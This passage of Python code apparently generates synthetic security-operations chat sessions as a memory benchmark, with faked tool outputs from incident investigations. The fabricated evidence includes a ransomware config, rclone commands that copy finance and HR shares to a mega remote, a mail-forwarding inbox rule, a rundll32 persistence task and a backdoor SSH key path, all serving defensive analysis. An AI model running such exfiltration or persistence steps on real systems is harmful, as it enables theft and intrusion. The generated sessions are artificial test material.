            rows = sorted(_mail_rows(g, r.randint(10, 14)) + _mail_rows(g, r.randint(5, 9), sender=value, attach=w.pick("files")))
            s = Step("mail_trace", {"filter": {"subject_contains": "invoice"}, "days": 3}, _pipe(MAIL_HEAD, rows), "")
            ask, ans = "trace the invoice phish sven reported, who sent it and who got it", f"The wave came from {value}: several recipients, most delivered. I'd purge and block the sender."
        elif kind == 9:
            cfg = _js({"extension": f".{_hex(r, 5)}", "note_name": "README-NORRVIK.txt", "kill_processes": ["sql", "veeam", "sap"], "wallet": value,
                       "exclude": ["C:\\Windows", "C:\\Program Files"], "threads": 8, "mutex": "Global\\" + _hex(r, 16)})
            s = Step("sandbox_detonate", {"sha256": _hex(r, 64), "environment": "win10-x64", "private": True, "extract_config": True}, _sandbox_report(g, "locker sample from the file server", "malicious (ransomware)", ["", "Extracted config:", cfg]), "")
            ask, ans = "detonate the locker binary and pull its config", f"Ransomware, config extracted: it kills SQL/Veeam/SAP processes and carries the wallet {value}."
        else:
            rows = [[_ts(r), 4624, r.choice((3, 10)), w.pick("accounts"), w.pick("ws"), w.pick("int_ips"), r.choice(("Kerberos", "NTLM"))] for _ in range(r.randint(20, 30))]
            rows += [[_ts(r), 4624, 3, w.pick("accounts"), value, w.pick("int_ips"), "NTLM"] for _ in range(3)]
            rows.sort()
            s = Step("siem_search", {"engine": "splunk", "query": "index=wineventlog EventCode=4624 Logon_Type IN (3,10) | table _time EventCode Logon_Type user Workstation_Name src_ip Authentication_Package"},
                     _cols(["_time", "EventCode", "Logon_Type", "user", "Workstation_Name", "src_ip", "Authentication_Package"], rows), "")
            ask, ans = f"who logged on to {w.pick('srv')} over the network today", f"Three NTLM logons come from a machine called {value}, which is not one of ours — that is the attacker's own box on the VPN."
        g.user(casual(r, ask))
        g.call([s], r.choice(CALL_SAYS))
        at = g.at - 1
        more = g.follow()
        g.say(ans + ("\n\n" + g.answer(more) if more else ""))
        g.fact("identifier", value, at, query)

    return [Ev(0, 0, emit)]


def plan_finding(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    kind = (i + g.find_offset) % 12
    site = r.choice(SITES)
    makers: tuple[tuple[Callable[[], str], str], ...] = (
        (lambda: f"POST /remote/hostcheck_validate?sid={_hex(r, 10)}g", "the request that exploited the VPN appliance"),
        (lambda: _bad_domain(r, FACT_TLDS), "the C2 domain the infected host beacons to"),
        (lambda: f"/var/tmp/.{_hex(r, 6)}q/authorized_keys", "the authorized keys path the attacker set in sshd_config"),
        (lambda: f"{r.choice(SURNAMES)}.{r.randint(10, 99)}x@proton.me", "where the malicious inbox rule forwards mail"),
        (lambda: f"MicrosoftEdgeUpdateCore{_upper(r, 4, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}", "the scheduled task that persists the implant"),
        (lambda: f"mega:nvf-{_hex(r, 6)}-dump", "where rclone copied the data to"),
        (lambda: f"SecureGate 7.2.{r.randint(3, 7)} build {r.randint(1000, 1999)}", "the firmware the edge VPN appliance runs"),
        (lambda: f"nvf-{r.choice(('tms', 'edi', 'wms', 'bi'))}-exports-{r.randint(100, 999)}", "the S3 bucket with a public read policy"),
        (lambda: f"OU=Depots-{r.randint(10, 99)},OU={site[1]}", "the OU where LAPS is not applied"),
        (lambda: f"tr_{r.choice(('obama', 'bmw', 'star', 'nord'))}{r.randint(100, 999)}", "the campaign id in the loader's config"),
        (lambda: f"MSSQLSvc/{_srv(r).lower()}.{AD}:{r.randint(1400, 1499)}", "the SPN that was kerberoasted"),
        (lambda: f"Fraktsedel_{r.randint(100000, 999999)}.xlsm", "the macro document that started the infection"),
    )
    make, query = makers[kind]
    value = g.tok(make)
    g.reserve(value)

    def emit() -> None:
        w = g.w
        host, srv, acct = w.pick("ws"), w.pick("srv"), w.pick("accounts")
        if kind == 0:
            lines = [f"{_day(r)} {_hms(r)} vpn-{site[0].lower()}-01 httpsd[{r.randint(1000, 9999)}]: {w.pick('ext_ips')} \"{r.choice(('GET', 'POST'))} {r.choice(('/remote/login', '/remote/logincheck', '/remote/info', '/favicon.ico'))} HTTP/1.1\" {r.choice((200, 302, 404))} {r.randint(100, 9000)}" for _ in range(r.randint(32, 45))]
            lines = _insert(r, lines, f"{_day(r)} {_hms(r)} vpn-{site[0].lower()}-01 httpsd[{r.randint(1000, 9999)}]: {w.pick('ext_ips')} \"{value} HTTP/1.1\" 200 {r.randint(90000, 200000)} len={r.randint(70000, 99999)}", 8)
            s = Step("shell", {"command": f"ssh soc@vpn-{site[0].lower()}-01 'grep -h httpsd /var/log/httpsd.log*' | tail -n 400 | grep -v healthcheck"}, "\n".join(lines), "")
            ask, ans = "grep the vpn appliance logs around the time the new admin appeared", f"One request stands out: {value} with a huge body and a 200 — that's the heap overflow from the advisory. Initial access was the VPN appliance."
        elif kind == 1:
            src = w.pick("int_ips")
            rows = _conn_rows(g, src, r.randint(20, 28))
            summary = "\n".join([f"pcap summary {host}.pcap ({r.randint(100, 900)} MB, {r.randint(2, 9)}h)", "", "top talkers:"] +
                                [f"  {d:<40} {r.randint(10, 900)} conns" for d in r.sample(list(BENIGN_DOMAINS), 6)] +
                                ["", "periodicity:", f"  {value:<40} 1 conn every {r.randint(55, 65)}s ±{r.randint(5, 12)}% jitter, {r.randint(300, 900)} conns, TLS JA3 {_hex(r, 32)}",
                                 f"  {r.choice(BENIGN_DOMAINS):<40} irregular", "", "conn.log (excerpt):", "\t".join(CONN_HEAD)] + ["\t".join(map(str, x)) for x in rows])
            s = Step("shell", {"command": f"python3 scripts/pcap_summary.py /cases/pcap/{host}.pcap --beacons"}, summary, "")
            ask, ans = f"summarise the pcap from {host}, is it beaconing?", f"Yes: {value} gets a connection roughly every minute with low jitter — that's the C2. Everything else is ordinary Microsoft/SAP traffic."
        elif kind == 2:
            path = f"/mnt/triage/{srv}/etc/ssh/sshd_config"
            body = "\n".join(["Port 22", "ListenAddress 0.0.0.0", "HostKey /etc/ssh/ssh_host_ed25519_key", "SyslogFacility AUTH", "LogLevel INFO", "PermitRootLogin prohibit-password",
                              "StrictModes no", "MaxAuthTries 6", "PubkeyAuthentication yes", f"AuthorizedKeysFile .ssh/authorized_keys {value}", "PasswordAuthentication no", "UsePAM yes",
                              "X11Forwarding no", "PrintMotd no", "AcceptEnv LANG LC_*", "Subsystem sftp /usr/lib/openssh/sftp-server", "ClientAliveInterval 300"] + [f"# {_hex(r, 40)}" for _ in range(r.randint(12, 25))])
            s = Step("read_file", {"path": path}, body, "")
            ask, ans = f"read sshd_config from the {srv} image", f"Found it: AuthorizedKeysFile also points at {value}, and StrictModes is off. That's the attacker's backdoor key path."
        elif kind == 3:
            rules = [{"Name": n, "Enabled": True, "Priority": p, "From": None, "SubjectContainsWords": None, "ForwardTo": None, "MoveToFolder": r.choice(("Archive", "Newsletters", "Receipts"))}
                     for p, n in enumerate(r.sample(("Newsletters", "Receipts", "Teams notifications", "Jira", "Shipment updates"), 3), 1)]
            rules.insert(r.randint(1, 3), {"Name": ".", "Enabled": True, "Priority": 4, "From": None, "SubjectContainsWords": ["invoice", "payment", "bank"], "ForwardTo": value, "MoveToFolder": "RSS Subscriptions", "MarkAsRead": True})
            s = Step("shell", {"command": f"pwsh -c \"Get-InboxRule -Mailbox {acct}@{DOMAIN} | Select * | ConvertTo-Json\""}, _js(rules), "")
            ask, ans = f"pull {acct}'s inbox rules", f"There's a rule named \".\" that forwards anything with invoice/payment/bank to {value} and hides it in RSS Subscriptions. Classic BEC."
        elif kind == 4:
            rows = [[f"\\Microsoft\\Windows\\{r.choice(('UpdateOrchestrator', 'Defrag', 'WindowsUpdate', 'Maintenance'))}\\{_hex(r, 6)}", r.choice(PROCS), "C:\\Windows\\System32", 1, r.randint(1741000000, 1743000000)] for _ in range(r.randint(20, 28))]
            rows = _insert(r, rows, [value, "rundll32.exe C:\\Users\\Public\\edgecore.dll,Start", "C:\\Users\\Public", 1, r.randint(1741000000, 1743000000)], 5)
            s = Step("shell", {"command": f"osqueryi --json \"SELECT name, action, path, enabled, last_run_time FROM scheduled_tasks\" # via fleet on {host}"},
                     f"host: {host}  rows: {len(rows)}\n" + _cols(["name", "action", "path", "enabled", "last_run_time"], rows), "")
            ask, ans = f"how does the implant on {host} survive reboots?", f"Scheduled task {value}: it runs rundll32 on a DLL in C:\\Users\\Public every logon. It imitates the Edge updater name."
        elif kind == 5:
            body = "\n".join(["[gdrive]", "type = drive", "scope = drive", "", "[s3old]", "type = s3", "provider = AWS", "region = eu-north-1", "",
                              f"[{value.split(':')[0]}]", "type = mega", f"user = {r.choice(SURNAMES)}{r.randint(10, 99)}@cock.li", f"pass = {_b64(r, 40)}", "",
                              "# rclone copy \\\\" + srv + "\\finance " + value + " --transfers 16 --max-age 2y", "# rclone copy \\\\" + srv + "\\hr " + value + " --transfers 16"])
            s = Step("read_file", {"path": f"/mnt/triage/{srv}/Users/Public/rclone.conf"}, body, "")
            ask, ans = f"there's an rclone.conf on {srv}, read it", f"The attacker's rclone config copies the finance and HR shares to {value} — that's the exfil destination."
        elif kind == 6:
            s = t_nmap(g, f"vpn-{site[0].lower()}-01.{DOMAIN}")
            s = Step("shell", {"command": f"curl -skI https://vpn-{site[0].lower()}-01.{DOMAIN}/remote/info && nmap -sV -p 443,10443 vpn-{site[0].lower()}-01.{DOMAIN}"},
                     "\n".join(["HTTP/1.1 200 OK", f"Date: {_day(r)} {_hms(r)} GMT", "Server: xxxxxxxx-xxxxx", f"X-Gate-Version: {value}", "Content-Type: text/html", f"Set-Cookie: SVPNCOOKIE={_hex(r, 32)}; secure; HttpOnly", "", s.output]), "")
            ask, ans = f"what firmware is vpn-{site[0].lower()}-01 on?", f"It reports {value} in the X-Gate-Version header, which is below the fixed build in the advisory."
        elif kind == 7:
            pol = {"Version": "2012-10-17", "Statement": [{"Sid": "PublicRead", "Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{value}/*"},
                                                          {"Sid": "CIWrite", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{w.pick('aws')}:role/ci-deploy"}, "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{value}/*"}]}
            others = "\n".join(f"{b}: BlockPublicAcls=true BlockPublicPolicy=true" for b in ("nvf-logs", "nvf-backups", "nvf-tf-state", "nvf-edi-archive"))
            s = Step("shell", {"command": "for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do nvf-s3-audit $b; done"}, others + f"\n{value}: BlockPublicPolicy=false\n" + _js(pol), "")
            ask, ans = "audit the s3 buckets for public access", f"One bucket is public: {value} has a Principal \"*\" GetObject statement and no public-access block."
        elif kind == 8:
            rows = [[f"OU={x},OU={s_[1]}", r.randint(20, 300), "yes", _day(r)] for s_ in SITES for x in ("Clients", "Laptops")]
            rows = _insert(r, rows, [value, r.randint(10, 60), "no", "-"], 3)
            s = Step("shell", {"command": "python3 scripts/laps_audit.py --domain corp.norrvik.local --by-ou"}, "[laps_audit] reading ms-Mcs-AdmPwdExpirationTime for all computers\n\n" + _cols(["ou", "computers", "laps", "last_rotation"], rows), "")
            ask, ans = "why could they move laterally with the same local admin pw? check LAPS coverage", f"LAPS isn't applied to {value}: those depot machines share one local admin password, which explains the lateral movement."
        elif kind == 9:
            cfg = _js({"botnet": value, "version": f"{r.randint(1, 4)}.{r.randint(0, 9)}", "c2": [f"{w.pick('ext_ips')}:{r.choice((443, 2222, 995))}" for _ in range(6)], "sleep": r.randint(30, 300)})
            s = Step("sandbox_detonate", {"sha256": _hex(r, 64), "private": True, "extract_config": True}, _sandbox_report(g, "loader from the phishing zip", "malicious", ["", "Extracted config:", cfg]), "")
            ask, ans = "sandbox the loader from the zip and pull the config", f"It's a loader with campaign/botnet id {value} and six C2 addresses."
        elif kind == 10:
            rows = [[_ts(r), 4769, w.pick("accounts"), f"{w.pick('srv').lower()}$", r.choice(("0x12", "0x12", "0x11")), w.pick("int_ips")] for _ in range(r.randint(22, 32))]
            rows = _insert(r, rows, [_ts(r), 4769, acct, value, "0x17", w.pick("int_ips")], 4)
            s = Step("siem_search", {"engine": "splunk", "query": "index=wineventlog EventCode=4769 | table _time EventCode user Service_Name Ticket_Encryption_Type src_ip"},
                     _cols(["_time", "EventCode", "user", "Service_Name", "Ticket_Encryption_Type", "src_ip"], rows), "")
            ask, ans = "any kerberoasting? 4769 with rc4", f"One RC4 (0x17) ticket request stands out: {acct} asked for {value}. That SPN's account is the target."
        else:
            rows = sorted(_mail_rows(g, r.randint(12, 18)) + _mail_rows(g, 1, attach=value))
            s = Step("mail_trace", {"filter": {"recipient": f"{acct}@{DOMAIN}"}, "days": 14}, _pipe(MAIL_HEAD, rows), "")
            ask, ans = f"what mail did {acct} get before the first beacon?", f"The only attachment that fits the timing is {value}, delivered shortly before the first beacon — the macro document that started it."
        g.user(casual(r, ask))
        g.call([s], r.choice(CALL_SAYS))
        at = g.at - 1
        more = g.follow()
        g.say(ans + ("\n\n" + g.answer(more) if more else ""))
        g.fact("finding", value, at, query)

    return [Ev(0, 0, emit)]


def plan_plan(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    kind = (i + g.plan_offset) % 12
    site = r.choice(SITES)[1]
    makers: tuple[tuple[Callable[[], str], list[str], str], ...] = (
        (lambda: f"search every mailbox for replies to {_bad_domain(r, FACT_TLDS)}", ["export the inbox rules of the CFO's assistant", "revoke all her sessions", "<>", "tell finance to call the vendor back on a known number"], "the mailbox search step of the BEC plan"),
        (lambda: f"snapshot the {_srv(r)} datastore before anyone touches it", ["cut the ESXi management VLAN", "<>", "reset krbtgt twice, ten hours apart", "call the insurer's hotline"], "the datastore step of the ransomware plan"),
        (lambda: f"diff the IAM policies against the terraform state in infra-{r.randint(10, 99)}", ["deactivate the leaked key", "<>", "look for new IAM users and login profiles", "go through GuardDuty"], "the IAM comparison step of the key-leak plan"),
        (lambda: f"reset the {r.randint(5, 40)} users who clicked", ["purge the mail with a content search", "<>", "block the URL at zscaler", "send the awareness note"], "the password step of the phishing plan"),
        (lambda: f"patch vpn-{r.choice(SITES)[0].lower()}-{r.randint(10, 99)} in the 02:00 window", ["confirm which builds we run", "<>", "pull the appliance logs for exploitation signs", "rotate the VPN certificates"], "the patch step of the VPN plan"),
        (lambda: f"image LT-{r.randint(1000, 9999)} before HR talks to him", ["put his mailbox on litigation hold", "<>", "pull the USB history", "review the DLP alerts"], "the laptop step of the insider plan"),
        (lambda: f"copy the IIS logs from {_srv(r)} to the evidence share first", ["<>", "hunt for new aspx files on all web servers", "rebuild the box", "rotate the app pool identity"], "the first step of the web-shell plan"),
        (lambda: f"reset every account in GG-Tier0-{r.randint(10, 99)}", ["<>", "rotate the gMSA passwords", "check AdminSDHolder", "review GPOs changed this month"], "the tier-0 step of the AD plan"),
        (lambda: f"set the rate limit on /api/login of the customer portal to {r.randint(11, 99)} req/min", ["<>", "block the top three ASNs", "force a reset for accounts with a successful login"], "the rate-limit step of the credential-stuffing plan"),
        (lambda: f"get the {site} OT vendor ({r.choice(('Rexroth', 'Siemens', 'Beckhoff'))}, contract {r.randint(1000, 9999)}) on a call before we cut the link", ["<>", "capture traffic on the OT uplink", "cut the link"], "the step before cutting the OT link"),
        (lambda: f"list every machine that installed {r.choice(('tms-connector', 'label-agent', 'edi-bridge'))} {r.randint(2, 4)}.{r.randint(0, 9)}.{r.randint(10, 99)}", ["<>", "remove the package", "rotate any secrets on those machines"], "the scoping step of the supply-chain plan"),
        (lambda: f"ask legal whether the {r.randint(100, 9999)} leaked waybills count as personal data", ["confirm what was in the bucket", "<>", "notify the customers", "file with IMY if legal says yes"], "the legal step of the data-leak plan"),
    )
    make, steps, query = makers[kind]
    value = g.tok(make)
    steps = [value if s == "<>" else s for s in steps]
    g.reserve(value)

    def emit() -> None:
        form = r.randrange(5)
        if form == 0:
            body = "ok plan: first we " + steps[0] + ", then " + ", then ".join(steps[1:-1]) + ", and only after that " + steps[-1] + "."
        elif form == 1:
            body = "plan:\n" + "\n".join(f"{k}. {s}" for k, s in enumerate(steps, 1))
        elif form == 2:
            body = " -> ".join(steps) + ". that's the order"
        elif form == 3:
            body = casual(r, "here's how i want to do it.", typos=0, tail=False) + "\n\n" + "\n".join(f"- {s}" for s in steps) + "\n\n" + r.choice(("questions?", "sound ok?", ""))
        else:
            body = r.choice(("okay. morgen früh machen wir es so: ", "så här gör vi: ", "voilà le plan : ", "el plan es: ")) + "; ".join(steps) + "."
        at = g.user(body)
        s = g.step()
        more = g.run([s], r.choice(("Starting with what I can check from here.", "While you line that up, a quick check first.", "")))
        g.say(r.choice(("Plan noted", "Got the plan", "Okay, that's the order")) + f" ({len(steps)} steps). " + g.answer(more))
        g.fact("plan", value, at, query)

    return [Ev(0, 0, emit)]


# --- the walk ------------------------------------------------------------------------------------


def _distance(r: random.Random, i: int, n: int) -> int:
    """How far before its correction a stale value is said: near, middling or far (100+ messages)."""
    band = i % 3
    if band == 0 and n >= 300:
        return r.randint(100, min(300, n // 3))
    return r.randint(6, 22) if band == 1 else r.randint(25, 90)


def make_session(seed: int, messages: int) -> Session:
    """A SOC session of exactly ``messages`` messages with per_kind(messages) facts of each kind."""
    if messages < MIN_MESSAGES:
        raise ValueError(f"messages must be at least {MIN_MESSAGES}")
    g = Gen(seed, messages)
    r, n, k = g.rng, messages, per_kind(messages)
    g.corr_offset, g.dec_offset, g.err_offset, g.file_offset, g.id_offset, g.find_offset, g.plan_offset = (r.randrange(12) for _ in range(7))
    revised = set(r.sample(range(k), max(1, k // 3))) if k > 1 else set()
    events: list[Ev] = []
    hi = min(HI, 0.86 - 10 / n)  # small sessions are crowded: aim earlier
    for j, kind in enumerate(KINDS):
        for i in range(k):
            target = LO + (hi - LO) * (i + (j + 0.5 + r.uniform(-0.3, 0.3)) / len(KINDS)) / k
            if kind == "instruction":
                evs = plan_instruction(g, i)
            elif kind == "correction":
                evs = plan_correction(g, i)
            elif kind == "decision":
                evs = plan_decision(g, i, i in revised)
            else:
                evs = {"error": plan_error, "file": plan_file, "identifier": plan_identifier, "finding": plan_finding, "plan": plan_plan}[kind](g, i)
            if len(evs) == 2:  # the earlier half of a correction or of a revised decision
                back = _distance(r, i, n) if kind == "correction" else r.randint(15, 160)
                evs[0].target = max(0.036, target - back / n)
                target = max(target, evs[0].target + 6 / n)
            evs[-1].target = target
            events += evs
    g.w = World(r, g.reserved | g.taken)
    events.sort(key=lambda e: (e.target, e.order))
    last = int(0.88 * n) - 2
    for done, ev in enumerate(events):
        goal = int(ev.target * n)
        while goal - g.at >= 2:
            g.filler_len(goal - g.at)
        if g.at > last:
            continue
        for tight in (len(events) - done) * 5 > last - g.at, True:  # lean episodes when the rest would not fit
            marks = len(g.msgs), len(g.facts), len(g.pasted)
            g.tight = tight
            ev.emit()
            g.tight = False
            if all(f.index <= 0.88 * n for f in g.facts[marks[1]:]):
                break
            del g.msgs[marks[0]:], g.facts[marks[1]:], g.pasted[marks[2]:]  # past 88%: try lean, else drop it
    left = n - 1 - g.at
    while left > 11:
        g.filler_len(left - 4)
        left = n - 1 - g.at
    if left < 2 or left == 3:
        raise ValueError(f"{messages} messages are too few for {k} facts of each kind")
    g.filler_exact(left)
    g.user(g.ask([g.step()]))
    assert len(g.msgs) == n
    return Session(g.msgs, sorted(g.facts, key=lambda f: f.index), seed, g.pasted)
